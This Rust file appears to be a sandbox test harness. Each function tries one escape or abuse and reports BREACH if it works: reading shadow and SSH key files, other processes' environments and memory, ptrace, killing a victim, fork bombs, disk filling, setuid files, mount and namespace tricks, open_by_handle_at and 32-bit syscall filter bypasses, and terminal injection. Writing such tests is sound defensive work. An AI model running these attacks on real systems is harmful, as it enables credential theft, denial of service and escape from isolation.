//! What hostile code may try once it runs, with everything that the guard and `forbid(unsafe_code)`
//! would have refused. One attack a call: `programs NAME SECRET HOME_SECRET VICTIM PORT SOCKET MARKER`.
//!
//! Whoever gets through says `BREACH`; what was read is printed, so that a secret in it is seen. What
//! shows on the host only (a file left, a victim killed, a connection made) is looked for there.

use std::ffi::CString;
use std::fs;
use std::io::Write;
use std::os::raw::{c_char, c_int, c_long, c_uint, c_ulong, c_void};
use std::os::unix::fs::symlink;
use std::path::Path;

extern "C" {
    fn fork() -> c_int;
    fn setsid() -> c_int;
    fn pause() -> c_int;
    fn close(fd: c_int) -> c_int;
    fn kill(pid: c_int, signal: c_int) -> c_int;
    fn signal(number: c_int, handler: usize) -> usize;
    fn getppid() -> c_int;
    fn geteuid() -> c_uint;
    fn setuid(uid: c_uint) -> c_int;
    fn seteuid(uid: c_uint) -> c_int;
    fn setgid(gid: c_uint) -> c_int;
    fn setgroups(count: usize, groups: *const c_uint) -> c_int;
    fn chmod(path: *const c_char, mode: c_uint) -> c_int;
    fn chown(path: *const c_char, uid: c_uint, gid: c_uint) -> c_int;
    fn truncate(path: *const c_char, length: c_long) -> c_int;
    fn utimes(path: *const c_char, times: *const c_void) -> c_int;
    fn setxattr(p: *const c_char, n: *const c_char, v: *const c_void, s: usize, f: c_int) -> c_int;
    fn mknod(path: *const c_char, mode: c_uint, device: c_ulong) -> c_int;
    fn open(path: *const c_char, flags: c_int, ...) -> c_int;
    fn read(fd: c_int, to: *mut c_void, count: usize) -> isize;
    fn fcntl(fd: c_int, command: c_int, ...) -> c_int;
    fn ioctl(fd: c_int, request: c_ulong, ...) -> c_int;
    fn pipe(fds: *mut c_int) -> c_int;
    fn ptrace(request: c_long, ...) -> c_long;
    fn process_vm_readv(
        pid: c_int, to: *const IoVec, n: c_ulong, from: *const IoVec, m: c_ulong, f: c_ulong,
    ) -> isize;
    fn setrlimit(which: c_int, limit: *const [u64; 2]) -> c_int;
    fn prlimit(pid: c_int, which: c_int, new: *const [u64; 2], old: *mut [u64; 2]) -> c_int;
    fn setpriority(which: c_int, who: c_uint, value: c_int) -> c_int;
    fn sched_setaffinity(pid: c_int, size: usize, mask: *const u64) -> c_int;
    fn unshare(flags: c_int) -> c_int;
    fn mount(
        what: *const c_char, at: *const c_char, kind: *const c_char, f: c_ulong, d: *const c_void,
    ) -> c_int;
    fn umount2(at: *const c_char, flags: c_int) -> c_int;
    fn chroot(path: *const c_char) -> c_int;
    fn socket(family: c_int, kind: c_int, protocol: c_int) -> c_int;
    fn shmget(key: c_int, size: usize, flags: c_int) -> c_int;
    fn syscall(number: c_long, ...) -> c_long;
}

#[repr(C)]
struct IoVec {
    base: *mut c_void,
    length: usize,
}

#[cfg(target_arch = "x86_64")]
mod number {
    pub const ADD_KEY: i64 = 248;
    pub const KEYCTL: i64 = 250;
    pub const BPF: i64 = 321;
    pub const PERF_EVENT_OPEN: i64 = 298;
    pub const USERFAULTFD: i64 = 323;
    pub const TGKILL: i64 = 234;
    pub const OPEN_BY_HANDLE_AT: i64 = 304;
    pub const CLONE: i64 = 56;
    pub const RT_SIGQUEUEINFO: i64 = 129;
}
#[cfg(target_arch = "aarch64")]
mod number {
    pub const ADD_KEY: i64 = 217;
    pub const KEYCTL: i64 = 219;
    pub const BPF: i64 = 280;
    pub const PERF_EVENT_OPEN: i64 = 241;
    pub const USERFAULTFD: i64 = 282;
    pub const TGKILL: i64 = 131;
    pub const OPEN_BY_HANDLE_AT: i64 = 265;
    pub const CLONE: i64 = 220;
    pub const RT_SIGQUEUEINFO: i64 = 138;
}
const PIDFD_OPEN: i64 = 434;
const PIDFD_SEND_SIGNAL: i64 = 424;
const IO_URING_SETUP: i64 = 425;
const SIGKILL: c_int = 9;
const SIGTERM: c_int = 15;

struct Facts {
    secret: String,
    home_secret: String,
    victim: c_int,
    port: u16,
    socket: String,
    marker: String,
}

fn c(text: &str) -> CString {
    CString::new(text).unwrap()
}

fn breach(what: &str, happened: bool) {
    if happened {
        println!("BREACH {what}");
    }
}

/// Print a file, if it can be read.
fn show(path: impl AsRef<Path>) {
    match fs::read(&path) {
        Ok(bytes) => {
            let text = String::from_utf8_lossy(&bytes[..bytes.len().min(2000)]).replace('\0', " ");
            println!("read {}: {text}", path.as_ref().display());
        }
        Err(error) => println!("no {}: {error}", path.as_ref().display()),
    }
}

fn processes() -> Vec<c_int> {
    let listed = fs::read_dir("/proc").into_iter().flatten().flatten();
    let mut found: Vec<c_int> =
        listed.filter_map(|entry| entry.file_name().to_str()?.parse().ok()).collect();
    found.extend([1, 2, unsafe { getppid() }]);
    found
}

/// Directories that a host has, and some that a sandbox has.
fn places(facts: &Facts) -> Vec<String> {
    let beside = |path: &str| Path::new(path).parent().unwrap().display().to_string();
    let mut all: Vec<String> =
        ["/", "/tmp", "/var/tmp", "/dev/shm", "/dev", "/usr", "/usr/bin", "/etc", "/run", "/home"]
            .map(String::from)
            .to_vec();
    all.extend([beside(&facts.secret), beside(&facts.home_secret), ".".into(), "/out".into()]);
    all
}

fn wait_forever() -> ! {
    loop {
        unsafe { pause() };
    }
}

fn read_secret_file(f: &Facts) {
    show(&f.secret);
    show(&f.home_secret);
}

fn read_accounts(_: &Facts) {
    for name in ["/etc/passwd", "/etc/shadow", "/etc/hostname", "/root/.ssh/id_rsa"] {
        breach(name, fs::read(name).is_ok());
    }
}

fn list_directories(f: &Facts) {
    for place in places(f) {
        for entry in fs::read_dir(place).into_iter().flatten().flatten() {
            println!("{}", entry.path().display());
            breach("listed", entry.file_name().to_string_lossy().contains(&f.marker));
        }
    }
}

fn read_own_environment(_: &Facts) {
    for (name, value) in std::env::vars_os() {
        println!("{name:?}={value:?}");
    }
    show("/proc/self/environ");
}

fn read_environments(f: &Facts) {
    // The victim first: there is a limit to what may be printed.
    for pid in [f.victim].into_iter().chain(processes()) {
        show(format!("/proc/{pid}/environ"));
        show(format!("/proc/{pid}/cmdline"));
    }
}

fn read_through_roots(f: &Facts) {
    for pid in processes().into_iter().chain([f.victim]).map(|pid| pid.to_string()) {
        for link in ["root", "cwd"] {
            show(format!("/proc/{pid}/{link}{}", f.secret));
        }
    }
    show(format!("/proc/self/root/../..{}", f.secret));
    show(format!("/proc/self/cwd/../../../../..{}", f.secret));
    show(format!("/proc/thread-self/root{}", f.home_secret));
}

fn read_memories(f: &Facts) {
    for pid in processes().into_iter().chain([f.victim]) {
        if pid != std::process::id() as c_int {
            breach("maps", fs::read(format!("/proc/{pid}/maps")).is_ok_and(|maps| !maps.is_empty()));
            breach("mem", fs::OpenOptions::new().write(true).open(format!("/proc/{pid}/mem")).is_ok());
        }
    }
}

fn read_inherited_descriptors(_: &Facts) {
    for fd in 3..256 {
        let mut buffer = [0u8; 512];
        let count = unsafe { read(fd, buffer.as_mut_ptr().cast(), buffer.len()) };
        breach("descriptor", count >= 0);
        if count > 0 {
            println!("{}", String::from_utf8_lossy(&buffer[..count as usize]));
        }
    }
}

fn read_devices(_: &Facts) {
    for name in ["mem", "kmem", "port", "kmsg", "sda", "vda", "nvme0n1", "kvm", "fuse", "tty"] {
        breach(name, fs::File::open(format!("/dev/{name}")).is_ok());
    }
}

fn write_outside(f: &Facts) {
    for place in places(f) {
        let _ = fs::write(format!("{place}/{}-file", f.marker), "left");
        let _ = fs::create_dir(format!("{place}/{}-directory", f.marker));
    }
}

fn overwrite_secret(f: &Facts) {
    for path in [&f.secret, &f.home_secret] {
        breach("write", fs::write(path, "gone").is_ok());
        breach("append", fs::OpenOptions::new().append(true).open(path).is_ok());
    }
}

fn delete_secret(f: &Facts) {
    for path in [&f.secret, &f.home_secret] {
        breach("rename", fs::rename(path, format!("{path}-moved")).is_ok());
        breach("unlink", fs::remove_file(path).is_ok());
        breach("rmdir", fs::remove_dir_all(Path::new(path).parent().unwrap()).is_ok());
    }
}

fn truncate_secret(f: &Facts) {
    for path in [&f.secret, &f.home_secret] {
        let path = c(path);
        breach("truncate", unsafe { truncate(path.as_ptr(), 0) } == 0);
        breach("O_TRUNC", unsafe { open(path.as_ptr(), 0o1000) } >= 0);
    }
}

fn change_secret_metadata(f: &Facts) {
    for path in [&f.secret, &f.home_secret] {
        let path = c(path);
        let name = c("user.attack");
        unsafe {
            breach("chmod", chmod(path.as_ptr(), 0o777) == 0);
            breach("chown", chown(path.as_ptr(), geteuid(), u32::MAX) == 0);
            breach("utimes", utimes(path.as_ptr(), std::ptr::null()) == 0);
            breach("setxattr", setxattr(path.as_ptr(), name.as_ptr(), path.as_ptr().cast(), 1, 0) == 0);
        }
    }
}

fn leave_links(f: &Facts) {
    for place in places(f) {
        let _ = symlink(&f.secret, format!("{place}/{}-symlink", f.marker));
        let _ = symlink("/etc/shadow", format!("{place}/{}-shadow", f.marker));
        breach("hard link", fs::hard_link(&f.secret, format!("{place}/{}-link", f.marker)).is_ok());
        show(format!("{place}/{}-symlink", f.marker));
    }
}

fn leave_setuid_files(f: &Facts) {
    for place in places(f) {
        let path = format!("{place}/{}-setuid", f.marker);
        let _ = fs::copy("/usr/bin/id", &path);
        unsafe { chmod(c(&path).as_ptr(), 0o6777) };
    }
}

fn make_devices(f: &Facts) {
    for place in places(f) {
        let path = c(&format!("{place}/{}-device", f.marker));
        breach("mknod", unsafe { mknod(path.as_ptr(), 0o020666, 0x0101) } == 0); // /dev/mem
    }
}

fn fill_the_disk(f: &Facts) {
    let block = vec![7u8; 1 << 20];
    unsafe { signal(25, 1) }; // SIGXFSZ: a file as large as may be does not end it
    for place in places(f) {
        for n in 0..40 {
            let Ok(mut file) = fs::File::create(format!("{place}/{}-{n}", f.marker)) else { break };
            while file.write_all(&block).is_ok() {}
        }
    }
}

fn fill_the_inodes(f: &Facts) {
    for n in 0..20_000 {
        if fs::write(format!("/tmp/{}-{n}", f.marker), "").is_err() {
            break;
        }
    }
}

fn connect_tcp(f: &Facts) {
    for host in ["127.0.0.1", "::1", "1.1.1.1"] {
        let address = (host.parse::<std::net::IpAddr>().unwrap(), f.port).into();
        let limit = std::time::Duration::from_millis(300);
        breach("connected", std::net::TcpStream::connect_timeout(&address, limit).is_ok());
    }
}

fn listen_tcp(_: &Facts) {
    breach("bound", std::net::TcpListener::bind("0.0.0.0:0").is_ok());
}

fn send_udp(f: &Facts) {
    if let Ok(socket) = std::net::UdpSocket::bind("127.0.0.1:0") {
        breach("sent", socket.send_to(b"secret", ("127.0.0.1", f.port)).is_ok());
    }
}

fn connect_unix(f: &Facts) {
    use std::os::linux::net::SocketAddrExt;
    use std::os::unix::net::{SocketAddr, UnixStream};
    for path in [f.socket.as_str(), "/var/run/docker.sock", "/run/systemd/private"] {
        breach(path, UnixStream::connect(path).is_ok());
    }
    let address = SocketAddr::from_abstract_name(&f.marker).unwrap();
    breach("abstract", UnixStream::connect_addr(&address).is_ok());
}

fn open_odd_sockets(_: &Facts) {
    // netlink, packet, raw, ALG, vsock, bluetooth, XDP
    for (family, kind) in [(16, 3), (17, 3), (2, 3), (38, 5), (40, 1), (31, 3), (44, 3)] {
        breach(&format!("socket family {family}"), unsafe { socket(family, kind, 0) } >= 0);
    }
}

fn fork_and_wait(_: &Facts) {
    let mut count = 0;
    for _ in 0..400 {
        match unsafe { fork() } {
            0 => wait_forever(),
            -1 => break,
            _ => count += 1,
        }
    }
    println!("children {count}");
}

fn fork_bomb(_: &Facts) {
    loop {
        unsafe { fork() };
    }
}

fn thread_bomb(_: &Facts) {
    let mut count = 0;
    while std::thread::Builder::new().stack_size(65536).spawn(|| wait_forever()).is_ok() {
        count += 1;
        if count > 400 {
            break;
        }
    }
    println!("children {count}");
}

fn daemonise(_: &Facts) {
    unsafe {
        if fork() == 0 {
            setsid();
            if fork() == 0 {
                setsid();
                for number in 1..65 {
                    signal(number, 1);
                }
                for fd in 0..64 {
                    close(fd);
                }
                wait_forever();
            }
            std::process::exit(0);
        }
    }
}

fn keep_output_open(_: &Facts) {
    unsafe {
        if fork() == 0 {
            setsid();
            wait_forever();
        }
    }
}

fn chain_of_forks(_: &Facts) {
    // Always one process, always another: who kills by a list comes late.
    unsafe { setsid() };
    loop {
        if unsafe { fork() } > 0 {
            std::process::exit(0);
        }
    }
}

fn kill_everybody(f: &Facts) {
    unsafe {
        for pid in [f.victim, getppid(), 1, -f.victim] {
            let thread = pid as c_long;
            let info = [0u8; 128];
            breach("kill", kill(pid, SIGTERM) == 0 && pid == f.victim);
            breach("tgkill", syscall(number::TGKILL, thread, thread, SIGKILL) == 0 && pid == f.victim);
            breach("queue", syscall(number::RT_SIGQUEUEINFO, thread, SIGKILL, info.as_ptr()) == 0);
            let pidfd = syscall(PIDFD_OPEN, thread, 0);
            if pidfd >= 0 && pid == f.victim {
                breach("pidfd", syscall(PIDFD_SEND_SIGNAL, pidfd, SIGKILL, 0, 0) == 0);
            }
        }
        kill(-1, SIGKILL);
    }
}

fn kill_by_descriptor(f: &Facts) {
    // A pipe that becomes readable signals its owner, and the owner can be anybody.
    let mut fds = [0; 2];
    unsafe {
        pipe(fds.as_mut_ptr());
        breach("F_SETOWN", fcntl(fds[0], 8, f.victim) == 0);
        breach("F_SETSIG", fcntl(fds[0], 10, SIGKILL) == 0 && fcntl(fds[0], 8, f.victim) == 0);
        fcntl(fds[0], 4, 0o20000); // O_ASYNC
        let mut file = std::mem::ManuallyDrop::new(<fs::File as std::os::fd::FromRawFd>::from_raw_fd(fds[1]));
        let _ = file.write_all(b"x");
    }
}

fn trace_victim(f: &Facts) {
    unsafe {
        for pid in [f.victim, getppid()] {
            breach("attach", ptrace(16, pid, 0, 0) == 0);
            breach("seize", ptrace(0x4206, pid, 0, 0) == 0);
        }
        breach("traceme", ptrace(0, 0, 0, 0) == 0);
    }
}

fn read_victims_memory(f: &Facts) {
    let mut buffer = [0u8; 16];
    let to = IoVec { base: buffer.as_mut_ptr().cast(), length: 16 };
    let from = IoVec { base: 0x40_0000 as *mut c_void, length: 16 };
    let count = unsafe { process_vm_readv(f.victim, &to, 1, &from, 1, 0) };
    breach("process_vm_readv", count > 0);
}

fn limit_victim(f: &Facts) {
    unsafe {
        breach("prlimit", prlimit(f.victim, 0, &[0, 0], std::ptr::null_mut()) == 0);
        breach("priority", setpriority(0, f.victim as c_uint, 19) == 0);
        breach("affinity", sched_setaffinity(f.victim, 8, &1) == 0);
    }
}

fn raise_own_limits(_: &Facts) {
    for which in [0, 1, 4, 6, 7, 9] {
        breach(&format!("rlimit {which}"), unsafe { setrlimit(which, &[u64::MAX, u64::MAX]) } == 0);
    }
}

fn become_root(_: &Facts) {
    unsafe {
        breach("setgroups", setgroups(1, [0].as_ptr()) == 0);
        breach("setgid", setgid(0) == 0);
        breach("setuid", setuid(0) == 0 || seteuid(0) == 0 || geteuid() == 0);
    }
    for program in ["/usr/bin/su", "/usr/bin/mount", "/usr/bin/newgrp", "/usr/bin/passwd"] {
        if let Ok(done) = std::process::Command::new(program).arg("--version").output() {
            println!("{program}: {done:?}");
        }
    }
}

fn make_namespaces(f: &Facts) {
    unsafe {
        for flag in [0x1000_0000, 0x0002_0000, 0x2000_0000, 0x4000_0000] {
            breach("unshare", unshare(flag) == 0);
            breach("unshare with user", unshare(flag | 0x1000_0000) == 0);
        }
        let child = syscall(number::CLONE, 0x1000_0000 | 17, 0, 0, 0, 0);
        if child == 0 {
            std::process::exit(0);
        }
        breach("clone", child > 0);
        let namespace = open(c(&format!("/proc/{}/ns/mnt", f.victim)).as_ptr(), 0);
        breach("namespace", namespace >= 0);
    }
}

fn mount_things(_: &Facts) {
    let (none, tmpfs, root, tmp) = (c("none"), c("tmpfs"), c("/"), c("/tmp"));
    unsafe {
        breach("tmpfs", mount(none.as_ptr(), tmp.as_ptr(), tmpfs.as_ptr(), 0, std::ptr::null()) == 0);
        breach("remount", mount(none.as_ptr(), root.as_ptr(), none.as_ptr(), 0x20, std::ptr::null()) == 0);
        breach("bind", mount(root.as_ptr(), tmp.as_ptr(), none.as_ptr(), 0x1000, std::ptr::null()) == 0);
        breach("umount", umount2(tmp.as_ptr(), 2) == 0);
        breach("chroot", chroot(tmp.as_ptr()) == 0);
    }
}

fn use_keyrings(_: &Facts) {
    let (kind, name) = (c("user"), c("attack"));
    unsafe {
        breach("add_key", syscall(number::ADD_KEY, kind.as_ptr(), name.as_ptr(), "x".as_ptr(), 1usize, -4) > 0);
        breach("keyctl", syscall(number::KEYCTL, 0, -4, 0) > 0);
    }
}

fn use_rare_calls(_: &Facts) {
    let room = [0u8; 256];
    unsafe {
        breach("bpf", syscall(number::BPF, 0, room.as_ptr(), 72) >= 0);
        breach("perf", syscall(number::PERF_EVENT_OPEN, room.as_ptr(), 0, -1, -1, 0) >= 0);
        breach("userfaultfd", syscall(number::USERFAULTFD, 1) >= 0);
        breach("io_uring", syscall(IO_URING_SETUP, 4, room.as_ptr()) >= 0);
    }
}

fn open_by_handle(_: &Facts) {
    // The root directory's handle on most file systems: how containers were once left.
    #[repr(C)]
    struct Handle {
        bytes: c_uint,
        kind: c_int,
        inode: [u32; 2],
    }
    let root = unsafe { open(c("/").as_ptr(), 0) };
    for inode in [2, 64, 96, 128, 256] {
        let handle = Handle { bytes: 8, kind: 1, inode: [inode, 0] };
        let got = unsafe { syscall(number::OPEN_BY_HANDLE_AT, root as c_long, &handle, 0) };
        breach("handle", got >= 0);
    }
}

#[cfg(target_arch = "x86_64")]
fn call_by_other_numbers(_: &Facts) {
    breach("x32", unsafe { syscall(0x4000_0000 + 39) } > 0);
    let result: i32;
    // getpid of the 32-bit table: the filter knows the 64-bit one only.
    unsafe { std::arch::asm!("int 0x80", inout("eax") 20 => result) };
    breach("int 0x80", result > 0);
}
#[cfg(not(target_arch = "x86_64"))]
fn call_by_other_numbers(_: &Facts) {}

fn share_memory(_: &Facts) {
    let key = 0x6d61_7872; // looked for on the host
    println!("segment {}", unsafe { shmget(key, 4096, 0o1666) });
}

fn type_into_terminal(_: &Facts) {
    for fd in 0..3 {
        breach("TIOCSTI", unsafe { ioctl(fd, 0x5412, b"x".as_ptr()) } == 0);
    }
    breach("/dev/tty", fs::File::open("/dev/tty").is_ok());
}

fn change_the_kernel(_: &Facts) {
    for name in ["/proc/sys/kernel/core_pattern", "/proc/sys/vm/overcommit_memory", "/proc/sysrq-trigger"] {
        breach(name, fs::OpenOptions::new().write(true).open(name).is_ok());
    }
    for place in ["/sys/fs/cgroup", "/sys/fs/cgroup/pids", "/sys/fs/cgroup/unified"] {
        breach(place, fs::create_dir(format!("{place}/attack")).is_ok());
    }
}

fn eat_memory(_: &Facts) {
    let mut kept: Vec<Vec<u8>> = Vec::new();
    loop {
        let mut block = Vec::new();
        if block.try_reserve_exact(16 << 20).is_err() {
            return println!("refused after {} MiB", kept.len() * 16);
        }
        block.resize(16 << 20, 1u8);
        kept.push(block);
    }
}

#[allow(unconditional_recursion)]
fn overflow_the_stack(f: &Facts) {
    let room = [0u8; 4096];
    std::hint::black_box(&room);
    overflow_the_stack(f);
    std::hint::black_box(&room);
}

fn loop_forever(_: &Facts) {
    loop {
        std::hint::spin_loop();
    }
}

fn sleep_forever(_: &Facts) {
    unsafe { setsid() };
    for number in 1..65 {
        unsafe { signal(number, 1) };
    }
    wait_forever();
}

fn close_everything_and_sleep(_: &Facts) {
    for fd in 0..64 {
        unsafe { close(fd) };
    }
    wait_forever();
}

fn print_forever(_: &Facts) {
    let line = "\x1b[31m\x1b]0;title\x07".repeat(1000);
    loop {
        println!("{line}");
    }
}

fn print_one_long_line(_: &Facts) {
    let _ = std::io::stdout().write_all(&vec![b'x'; 64 << 20]);
}

const ATTACKS: &[(&str, fn(&Facts))] = &[
    ("read_secret_file", read_secret_file),
    ("read_accounts", read_accounts),
    ("list_directories", list_directories),
    ("read_own_environment", read_own_environment),
    ("read_environments", read_environments),
    ("read_through_roots", read_through_roots),
    ("read_memories", read_memories),
    ("read_inherited_descriptors", read_inherited_descriptors),
    ("read_devices", read_devices),
    ("write_outside", write_outside),
    ("overwrite_secret", overwrite_secret),
    ("delete_secret", delete_secret),
    ("truncate_secret", truncate_secret),
    ("change_secret_metadata", change_secret_metadata),
    ("leave_links", leave_links),
    ("leave_setuid_files", leave_setuid_files),
    ("make_devices", make_devices),
    ("fill_the_disk", fill_the_disk),
    ("fill_the_inodes", fill_the_inodes),
    ("connect_tcp", connect_tcp),
    ("listen_tcp", listen_tcp),
    ("send_udp", send_udp),
    ("connect_unix", connect_unix),
    ("open_odd_sockets", open_odd_sockets),
    ("fork_and_wait", fork_and_wait),
    ("fork_bomb", fork_bomb),
    ("thread_bomb", thread_bomb),
    ("daemonise", daemonise),
    ("keep_output_open", keep_output_open),
    ("chain_of_forks", chain_of_forks),
    ("kill_everybody", kill_everybody),
    ("kill_by_descriptor", kill_by_descriptor),
    ("trace_victim", trace_victim),
    ("read_victims_memory", read_victims_memory),
    ("limit_victim", limit_victim),
    ("raise_own_limits", raise_own_limits),
    ("become_root", become_root),
    ("make_namespaces", make_namespaces),
    ("mount_things", mount_things),
    ("use_keyrings", use_keyrings),
    ("use_rare_calls", use_rare_calls),
    ("open_by_handle", open_by_handle),
    ("call_by_other_numbers", call_by_other_numbers),
    ("share_memory", share_memory),
    ("type_into_terminal", type_into_terminal),
    ("change_the_kernel", change_the_kernel),
    ("eat_memory", eat_memory),
    ("overflow_the_stack", overflow_the_stack),
    ("loop_forever", loop_forever),
    ("sleep_forever", sleep_forever),
    ("close_everything_and_sleep", close_everything_and_sleep),
    ("print_forever", print_forever),
    ("print_one_long_line", print_one_long_line),
];

fn main() {
    let given: Vec<String> = std::env::args().collect();
    if given.len() == 2 && given[1] == "--list" {
        return ATTACKS.iter().for_each(|(name, _)| println!("{name}"));
    }
    let facts = Facts {
        secret: given[2].clone(),
        home_secret: given[3].clone(),
        victim: given[4].parse().unwrap(),
        port: given[5].parse().unwrap(),
        socket: given[6].clone(),
        marker: given[7].clone(),
    };
    let (_, attack) = ATTACKS.iter().find(|(name, _)| *name == given[1]).expect("an attack");
    println!("BEGIN {}", given[1]);
    attack(&facts);
}
